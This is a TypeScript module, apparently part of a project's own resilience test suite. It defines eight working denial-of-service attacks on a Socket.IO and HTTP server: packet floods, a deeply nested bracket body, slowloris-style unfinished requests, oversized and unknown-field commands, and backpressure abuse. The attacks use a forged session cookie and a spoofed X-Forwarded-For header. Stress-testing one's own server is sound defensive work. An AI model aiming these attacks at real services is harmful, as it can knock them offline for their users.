/** Ways to cost a server much with little, each kept up until its process ends. */
import { randomUUID } from 'node:crypto';
import { connect } from 'node:net';
import { RawLine, frame } from '../../apps/server/src/testing/raw-line.js';
import { pause } from '../bench/sides/child-server.js';

export interface Attack {
  readonly name: AttackName;
  /** The server, or the sink in its place. */
  readonly url: string;
  readonly seconds: number;
  /** As the proxy in front would write it. */
  readonly from: string;
  /** Who does it; a stranger makes a cookie up. */
  readonly headers?: Record<string, string>;
  readonly auth?: Record<string, string>;
  readonly meetingId?: string;
}

export type AttackName =
  'greetings' | 'polling' | 'brackets' | 'unfinished' | 'unknown-fields' | 'attachment' | 'unread' | 'megabytes';

const between = '\u001e';
const madeUp = `quorate-1=${'A'.repeat(43)}`;
const headersOf = ({ from, headers }: Attack): Record<string, string> => ({
  cookie: madeUp,
  ...headers,
  'x-forwarded-for': from,
});
const several = (count: number, work: (index: number) => Promise<void>): Promise<unknown> =>
  Promise.all(Array.from({ length: count }, (_, index) => work(index)));
const whileThere = async (work: () => Promise<unknown>): Promise<never> => {
  for (;;) await work().catch(() => pause(20));
};

async function line(attack: Attack): Promise<RawLine> {
  const opened = await RawLine.open(attack.url, headersOf(attack));
  opened.send(`40${JSON.stringify(attack.auth ?? {})}`);
  return opened;
}

/** Sends the packets over a line again and again; a new line once it is closed. */
const overAndOver = (attack: Attack, packets: () => readonly (string | Buffer)[], every: number) =>
  whileThere(async () => {
    const opened = await line(attack);
    await pause(100);
    while (opened.isOpen) {
      await opened.write(Buffer.concat(packets().map(frame)));
      await pause(every);
    }
  });

const command = (attack: Attack, fields: object, number = 1): string =>
  `42${number}${JSON.stringify(['command', { meetingId: attack.meetingId, commandId: randomUUID(), command: fields }])}`;

const greetings = Buffer.concat(Array.from({ length: 8_000 }, () => frame('40')));
const unknown = Object.fromEntries(
  Array.from({ length: 14_000 }, (_, index) => [`mayShareWithTheFamilyOfThis${index}`.padEnd(58, 'x'), 1]),
);
const post = (attack: Attack, path: string, body: string): Promise<unknown> =>
  fetch(attack.url + path, {
    method: 'POST',
    headers: { ...headersOf(attack), origin: attack.url, 'content-type': 'application/json' },
    body,
  }).then((answer) => answer.text());

export const attacks: Readonly<Record<AttackName, (attack: Attack) => Promise<unknown>>> = {
  greetings: (attack) =>
    several(10, () =>
      whileThere(async () => {
        const opened = await line(attack);
        while (opened.isOpen) await opened.write(greetings);
      }),
    ),
  polling: (attack) =>
    several(10, () =>
      whileThere(async () => {
        const path = '/socket.io/?EIO=4&transport=polling';
        const opened = await (await fetch(attack.url + path, { headers: headersOf(attack) })).text();
        const sid = /"sid":"([^"]+)"/u.exec(opened)?.[1];
        await post(attack, `${path}&sid=${sid}`, Array.from({ length: 300_000 }, () => '40').join(between));
      }),
    ),
  brackets: (attack) => several(10, () => whileThere(() => post(attack, '/api/links/redeem', '['.repeat(900_000)))),
  unfinished: (attack) =>
    several(300, () =>
      whileThere(async () => {
        const { hostname, port } = new URL(attack.url);
        const wire = connect(Number(port), hostname);
        wire.write(
          `POST /api/links/redeem HTTP/1.1\r\nHost: ${hostname}:${port}\r\nX-Forwarded-For: ${attack.from}\r\nContent-Type: application/json\r\nContent-Length: 900000\r\n\r\n${'x'.repeat(400_000)}`,
        );
        await new Promise((resolve) => wire.once('close', resolve).once('error', resolve));
        await pause(200);
      }),
    ),
  'unknown-fields': (attack) =>
    overAndOver(attack, () => [command(attack, { type: 'MakeContribution', ...unknown })], 200),
  attachment: (attack) =>
    overAndOver(
      attack,
      () => ['451-1["command",{"meetingId":{"_placeholder":true,"num":0}}]', Buffer.alloc(1_000_000)],
      100,
    ),
  unread: (attack) =>
    several(10, () =>
      whileThere(async () => {
        const opened = await line(attack);
        await pause(100);
        opened.wire.pause();
        const follow = `421${JSON.stringify(['follow', { meetingId: attack.meetingId, after: 0 }])}`;
        while (opened.isOpen) {
          await opened.write(frame(follow));
          await pause(50);
        }
      }),
    ),
  megabytes: (attack) =>
    overAndOver(
      attack,
      () => [command(attack, { type: 'MakeContribution', contributionId: randomUUID(), statement: 'x'.repeat(9_900) })],
      20,
    ),
};
